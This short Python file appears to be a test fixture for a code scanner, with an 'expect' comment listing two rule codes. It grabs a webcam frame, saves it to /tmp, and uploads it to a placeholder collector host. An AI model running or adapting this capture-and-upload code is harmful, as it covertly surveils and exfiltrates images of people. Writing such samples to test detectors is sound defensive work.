# expect: CDN603 CDN608
import cv2, requests
cam = cv2.VideoCapture(0)
ok, frame = cam.read()
cv2.imwrite('/tmp/c.png', frame)
requests.post('https://collector.example.net', files={'f': open('/tmp/c.png', 'rb')})
